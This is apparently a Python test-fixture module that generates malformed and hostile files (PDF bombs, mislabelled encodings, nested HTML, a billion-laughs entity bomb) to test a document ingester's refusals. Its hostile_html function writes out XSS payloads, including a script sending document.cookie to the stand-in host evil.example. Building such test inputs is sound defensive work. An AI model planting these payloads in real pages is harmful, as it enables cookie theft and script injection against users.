"""Hostile documents, generated into a folder at test time (never committed: some are 100 MB).

Each maker returns the bytes of one file; the PDFs come from badpdfs.py. REFUSED, KEPT and
TOO_LONG say what must become of each file; `write_bad_corpus` writes them all.
"""

from __future__ import annotations

import gzip
import io
import random
import re
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .badpdfs import (
    encrypted_pdf,
    inflate_bomb_pdf,
    nesting_bomb_pdf,
    page_bomb_pdf,
    time_bomb_pdf,
    truncated_pdf,
)

ENGLISH = (
    "North Korea shipped artillery shells to Russia by rail in 2023, South Korean officials "
    "said. Iran supplied Shahed drones to Russia, according to Ukrainian intelligence."
)
RUSSIAN = "Северная Корея передала России артиллерийские снаряды, сообщила разведка."
KOREAN = "국가정보원은 북한이 러시아에 포탄 수백만 발을 보냈다고 밝혔다."
ARABIC = "أفادت التقارير بأن إيران أرسلت صواريخ إلى حزب الله عبر سوريا."
HEBREW = "צה״ל תפס משלוח רקטות מאיראן בדרך לחיזבאללה."
CHINESE = "据报道，朝鲜通过铁路向俄罗斯运送了炮弹。"
JAPANESE = "北朝鮮はロシアに砲弾を鉄道で送ったと韓国の情報機関が発表した。"
RTL_MARKS = "\u200f\u202b\u202e\u2067"  # RLM, RLE, RLO, RLI: direction controls, kept as text
VISIBLE_MARKUP = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
"""Markup that is the visible *text* of a page (escaped in its HTML): it must stay text."""
HOSTILE_TITLE = "<img src=x onerror=alert(7)> Shells by rail"


# -- plain files -------------------------------------------------------------------------------


def random_bytes(size: int, seed: int = 8) -> bytes:
    """Deterministic noise: the same 'random' file on every run."""
    return random.Random(seed).randbytes(size)


def write_big_text(path: Path, size: int) -> None:
    """A plain English text of `size` bytes in short lines, written without holding it all."""
    line = (ENGLISH + "\n").encode("utf-8")
    with path.open("wb") as fh:
        full, rest = divmod(size, len(line))
        block = line * 4096
        for _ in range(full // 4096):
            fh.write(block)
        fh.write(line * (full % 4096))
        fh.write(b"x" * rest)


def single_line(size: int) -> bytes:
    """`size` bytes of sentences on one line: no newline anywhere."""
    sentence = (ENGLISH + " ").encode("utf-8")
    return (sentence * (size // len(sentence) + 1))[:size]


def long_sentence(size: int) -> bytes:
    """One sentence of `size` bytes: clauses joined by semicolons, no full stop until the end."""
    clause = b"North Korea shipped 2,000 artillery shells to Russia by rail, officials said; "
    return (clause * (size // len(clause) + 1))[:size] + b"."


def mixed_encodings() -> bytes:
    """A UTF-8 paragraph followed by a CP1251 one: no single encoding reads both."""
    return (ENGLISH + "\n" + RUSSIAN + "\n").encode("utf-8") + (RUSSIAN + "\n").encode("cp1251")


def html_page(body: str, charset: str = "utf-8", head: str = "", title: str = "Report") -> str:
    return (
        f'<!DOCTYPE html><html><head><meta charset="{charset}"><title>{title}</title>{head}'
        f"</head><body><article>{body}</article></body></html>"
    )


def wrong_charset_html() -> bytes:
    """Declares UTF-8, is CP1251."""
    return html_page(f"<p>{RUSSIAN}</p><p>{RUSSIAN}</p>").encode("cp1251")


def latin1_declared_utf8_html() -> bytes:
    """Declares ISO-8859-1, is UTF-8 (the commonest mislabel on the web)."""
    return html_page(f"<p>{RUSSIAN}</p><p>{KOREAN}</p>", charset="iso-8859-1").encode("utf-8")


def rtl_cjk_text() -> bytes:
    """Arabic, Hebrew (with direction controls), Chinese, Japanese and Korean in one file."""
    lines = [ARABIC, RTL_MARKS + HEBREW, CHINESE, JAPANESE, KOREAN, ENGLISH]
    return ("\n".join(lines) + "\n").encode("utf-8")


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hostile_html() -> bytes:
    """Scripts, event handlers, javascript: links, an iframe, and markup shown as text (in
    the title too)."""
    escaped = _escape(VISIBLE_MARKUP)
    body = (
        '<script>document.location="http://evil.example/?c="+document.cookie</script>'
        f'<p onclick="steal()" onmouseover="steal()">{ENGLISH}</p>'
        '<p><a href="javascript:alert(1)">click here</a> '
        '<img src="x" onerror="alert(2)"> <iframe src="http://evil.example/"></iframe></p>'
        f"<p>The page quoted this string: <code>{escaped}</code></p>"
        "<svg onload=alert(3)><script>alert(4)</script></svg>"
        "<style>body{background:url(javascript:alert(5))}</style>"
    )
    head = '<script src="http://evil.example/a.js"></script>'
    return html_page(body, head=head, title=_escape(HOSTILE_TITLE)).encode()


def deep_html(depth: int) -> bytes:
    """`depth` nested <div>s around one paragraph (a parser or walker that recurses fails)."""
    return ("<div>" * depth + f"<p>{ENGLISH}</p>" + "</div>" * depth).encode()


def entity_bomb_html() -> bytes:
    """A 'billion laughs' DTD: an HTML reader must never expand it."""
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    return (f"<!DOCTYPE html [{entities}]><html><body><p>{ENGLISH} &a9;</p></body></html>").encode()


# -- archives ----------------------------------------------------------------------------------


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("report.txt", ENGLISH)
    return buffer.getvalue()


def tar_bytes() -> bytes:
    buffer = io.BytesIO()
    data = ENGLISH.encode()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("report.txt")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def gzip_bytes() -> bytes:
    return gzip.compress(ENGLISH.encode(), mtime=0)


# -- the corpus --------------------------------------------------------------------------------

PDF_TIMEOUT_S = 2
PDF_MEMORY_MB = 64
LIMITS = {
    "ARMSTRACE_PDF_TIMEOUT": str(PDF_TIMEOUT_S),
    "ARMSTRACE_PDF_MEMORY": str(PDF_MEMORY_MB * 2**20),
    "ARMSTRACE_URL_TIMEOUT": "1",
}
"""The per-document limits the bad corpus runs under (the defaults are looser)."""
_ANY_PDF_REFUSAL = (
    r"PDF (could not be parsed: .+|has no text layer \(scanned\?\)|parsing exceeded .+)"
)


@dataclass(frozen=True)
class Refused:
    """A file that must fail with a reason matching `reason` (a full-match regex)."""

    name: str
    make: Callable[[], bytes]
    reason: str


@dataclass(frozen=True)
class Kept:
    """A file that must be ingested with `present` in its text and `absent` not."""

    name: str
    make: Callable[[], bytes]
    present: tuple[str, ...]
    absent: tuple[str, ...] = ()
    encoding: str | None = None


REFUSED = [
    Refused("empty.txt", lambda: b"", re.escape("no text found")),
    Refused("whitespace.md", lambda: b" \n\t\r\n" * 100, re.escape("no text found")),
    Refused(
        "random.txt",
        lambda: random_bytes(65536),
        re.escape("not valid UTF-8 and no encoding detected"),
    ),
    Refused("random.pdf", lambda: random_bytes(65536, seed=9), "PDF could not be parsed: .+"),
    Refused(
        "random.html",
        lambda: random_bytes(65536, seed=10),
        re.escape("not valid UTF-8 and no encoding detected"),
    ),
    Refused("nuls.txt", lambda: b"\x00" * 4096 + b"shells", r"looks like binary data \(.+\)"),
    Refused("truncated.pdf", truncated_pdf, "PDF could not be parsed: .+"),
    Refused("encrypted.pdf", encrypted_pdf, re.escape("PDF is encrypted")),
    Refused("page_bomb.pdf", page_bomb_pdf, _ANY_PDF_REFUSAL),
    Refused("nesting_bomb.pdf", nesting_bomb_pdf, _ANY_PDF_REFUSAL),
    Refused("time_bomb.pdf", time_bomb_pdf, re.escape(f"PDF parsing exceeded {PDF_TIMEOUT_S} s")),
    Refused(
        "inflate_bomb.pdf",
        inflate_bomb_pdf,
        re.escape(
            f"PDF parsing exceeded the memory limit ({PDF_MEMORY_MB} MB, ARMSTRACE_PDF_MEMORY)"
        ),
    ),
    Refused("archive.html", zip_bytes, re.escape("ZIP archive, not a document")),
    Refused("archive.txt", tar_bytes, re.escape("tar archive, not a document")),
    Refused("archive.md", gzip_bytes, re.escape("gzip archive, not a document")),
    Refused("deep.html", lambda: deep_html(100_000), "HTML could not be parsed: .+"),
    Refused("utf16_no_mark.txt", lambda: RUSSIAN.encode("utf-16-le"), r"looks like binary .+"),
]
"""Files `read` refuses, each with its reason."""

KEPT = [
    Kept("mixed.txt", mixed_encodings, (ENGLISH, RUSSIAN + "\n" + RUSSIAN), (), "utf-8+cp1251"),
    Kept("wrong_charset.html", wrong_charset_html, (RUSSIAN,), encoding="cp1251"),
    Kept("latin1_label.html", latin1_declared_utf8_html, (RUSSIAN, KOREAN), encoding="utf-8"),
    Kept("rtl_cjk.txt", rtl_cjk_text, (rtl_cjk_text().decode("utf-8"),), encoding="utf-8"),
    Kept(
        "hostile.html",
        hostile_html,
        (ENGLISH, VISIBLE_MARKUP),
        ("cookie", "steal", "evil.example", "javascript:", *(f"alert({n})" for n in (2, 3, 4, 5))),
    ),
    Kept("entity_bomb.html", entity_bomb_html, (ENGLISH,), ("lol",)),
]
"""Hostile files that are still documents: ingested, their text exactly what a reader sees."""

TOO_LONG = {
    "huge.txt": 100 * 2**20,
    "one_line.txt": 10 * 2**20,
}
"""Files over ARMSTRACE_MAX_TEXT_CHARS (10,000,000 by default): 100 MB of lines, 10 MB in one."""


def too_long_reason(size: int) -> str:
    return f"text is {size:,} characters, over the 10,000,000 limit (ARMSTRACE_MAX_TEXT_CHARS)"


def write_bad_corpus(folder: Path) -> None:
    """Every REFUSED, KEPT and TOO_LONG file into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    for case in [*REFUSED, *KEPT]:
        (folder / case.name).write_bytes(case.make())
    write_big_text(folder / "huge.txt", TOO_LONG["huge.txt"])
    (folder / "one_line.txt").write_bytes(single_line(TOO_LONG["one_line.txt"]))
